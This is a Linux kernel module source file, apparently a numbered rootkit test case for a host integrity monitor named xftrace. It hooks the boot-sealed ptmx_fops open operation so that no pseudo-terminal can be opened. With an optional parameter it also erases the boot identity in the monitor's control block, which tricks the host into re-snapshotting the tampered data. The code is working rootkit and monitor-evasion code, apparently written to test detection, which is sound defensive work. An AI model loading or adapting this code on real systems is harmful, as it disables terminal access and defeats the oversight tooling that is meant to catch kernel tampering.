// SPDX-License-Identifier: GPL-2.0
/*
 * 9. Rewrite data the kernel sealed after boot (__ro_after_init): the open
 * operation of /dev/ptmx (ptmx_fops, filled in at boot from tty_fops) now
 * refuses everyone, so no new pseudo-terminal can be opened. With erase=1 it
 * first erases the boot identity the host wrote into xftrace's control
 * block (docs/abi.md, boot_id at 0x108), so that the host may take this boot
 * for a new one and its snapshot of sealed data with the hook in it.
 */
#include <linux/module.h>
#include <linux/fs.h>
#include "rk_common.h"

static int erase;
module_param(erase, int, 0);
static struct file_operations *fops;
static int (*orig)(struct inode *, struct file *);

static int rk_open(struct inode *inode, struct file *file)
{
	return -EACCES;
}

static int __init rk_init(void)
{
	int (*hook)(struct inode *, struct file *) = rk_open;

	fops = (struct file_operations *)rk_lookup("ptmx_fops");
	if (!fops)
		return -ENOENT;
	if (erase) {
		u64 *ctl = (u64 *)rk_lookup("xftrace_control");

		if (!ctl)
			return -ENOENT;
		WRITE_ONCE(ctl[0x108 / 8], 0);
	}
	orig = fops->open;
	rk_write(&fops->open, &hook, sizeof(hook));
	pr_info("rk_ro_after_init: ptmx_fops.open hooked\n");
	return 0;
}

static void __exit rk_exit(void)
{
	rk_write(&fops->open, &orig, sizeof(orig));
}

module_init(rk_init);
module_exit(rk_exit);
MODULE_LICENSE("GPL");
